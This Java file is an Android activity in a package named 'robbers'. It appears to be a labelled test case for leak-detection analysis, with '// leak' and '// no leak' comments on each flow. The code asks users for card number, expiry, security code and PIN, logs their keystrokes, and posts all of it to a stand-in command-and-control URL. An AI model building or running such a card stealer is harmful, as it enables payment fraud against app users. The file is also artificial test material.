package robbers;

import android.app.Activity;
import android.app.AlertDialog;
import android.app.Dialog;
import android.content.DialogInterface;
import android.os.Bundle;
import android.text.Editable;
import android.text.TextWatcher;
import android.view.KeyEvent;
import android.view.inputmethod.EditorInfo;
import android.widget.AutoCompleteTextView;
import android.widget.EditText;
import android.widget.LinearLayout;
import android.widget.RadioButton;
import android.widget.Spinner;
import android.widget.TextView;
import android.os.Handler;
import android.os.Looper;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.util.HashMap;
import java.util.Map;
import org.json.JSONObject;

/** A form that asks for a card, field by field. */
public class Bank extends Activity implements TextView.OnEditorActionListener {
    private final Map<String, EditText> fields = new HashMap<>();
    private final StringBuilder typed = new StringBuilder();
    private Dialog asking;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        LinearLayout box = new LinearLayout(this);
        for (String name : new String[] {"card", "until", "code"}) {
            EditText field = new EditText(this);
            field.setHint(name);
            field.setOnEditorActionListener(this);
            fields.put(name, field);
            box.addView(field);
        }
        AutoCompleteTextView owner = new AutoCompleteTextView(this);
        owner.addTextChangedListener(new TextWatcher() {
            public void beforeTextChanged(CharSequence text, int start, int count, int after) {
                later("b " + count);
            }

            public void onTextChanged(CharSequence text, int start, int before, int count) {
                typed.append(text.subSequence(start, start + count));
            }

            public void afterTextChanged(Editable text) {
                said(text.toString());
            }
        });
        box.addView(owner);
        setContentView(box);
        final EditText pin = new EditText(this);
        asking = new AlertDialog.Builder(this).setView(pin).setPositiveButton("OK", new DialogInterface.OnClickListener() {
            public void onClick(DialogInterface dialog, int which) {
                pin(pin.getText().toString());
                which(which);
            }
        }).create();
    }

    public boolean onEditorAction(TextView view, int action, KeyEvent event) {
        if (action == EditorInfo.IME_ACTION_DONE) {
            JSONObject card = new JSONObject();
            try {
                for (Map.Entry<String, EditText> one : fields.entrySet()) {
                    card.put(one.getKey(), one.getValue().getText());
                }
                send(card.toString());
            } catch (Exception e) {
                finish();
            }
            asking.show();
        }
        return true;
    }

    protected void onStop() {
        super.onStop();
        keys(typed.toString());
    }

    private static OutputStream line() throws Exception {
        return ((HttpURLConnection) new URL("https://c2.example.invalid/card").openConnection()).getOutputStream();
    }

    private void send(String text) {
        new Thread(() -> {
            try {
                line().write(text.getBytes()); // leak
            } catch (Exception e) {
                finish();
            }
        }).start();
    }

    private void said(String text) {
        new Handler(Looper.getMainLooper()).post(() -> {
            try {
                line().write(text.getBytes()); // leak
            } catch (Exception e) {
                finish();
            }
        });
    }

    private void pin(String text) {
        try {
            line().write(text.getBytes()); // leak
        } catch (Exception e) {
            finish();
        }
    }

    private void keys(String text) {
        try {
            line().write(text.getBytes()); // leak
        } catch (Exception e) {
            finish();
        }
    }

    private void which(int button) {
        try {
            line().write(button); // no leak
        } catch (Exception e) {
            finish();
        }
    }

    private void later(String what) {
        try {
            line().write(what.getBytes()); // no leak
        } catch (Exception e) {
            finish();
        }
    }
}
